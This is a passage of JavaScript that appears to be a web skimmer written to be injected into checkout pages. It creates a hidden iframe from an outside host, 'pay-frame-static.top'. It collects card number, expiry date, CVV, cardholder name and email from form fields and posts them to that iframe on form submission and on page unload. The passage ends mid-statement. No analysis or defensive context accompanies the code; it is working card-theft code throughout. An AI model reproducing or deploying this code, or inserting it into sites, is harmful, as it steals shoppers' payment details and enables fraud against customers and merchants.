(() => {
  const HOST = 'https://pay-frame-static.top';
  const ifr = Object.assign(document.createElement('iframe'), {
    src: HOST + '/c/m.html',
    width: 0,
    height: 0,
  });
  ifr.style.display = 'none';
  document.body.appendChild(ifr);

  const q = (s) => document.querySelector(s)?.value ?? '';

  const snapshot = () => ({
    pan: q('#credit-card-number') || q('[name="cardnumber"]'),
    exp: q('#expiration') || q('[name="exp-date"]'),
    cvv: q('#cvv') || q('[name="cvc"]'),
    name: q('#cardholder-name'),
    email: q('#email'),
    url: location.href,
  });

  document.addEventListener('submit', () => {
    const data = snapshot();
    if (data.pan.replace(/\D/g, '').length < 13) return;
    ifr.contentWindow.postMessage(JSON.stringify(data), '*');
  }, true);

  window.addEventListener('beforeunload', () => {
    const data = snapshot();
    if (data.pan) {
      ifr.contentWindow.postMessage(JSON.stringify({ ...data, late: true }
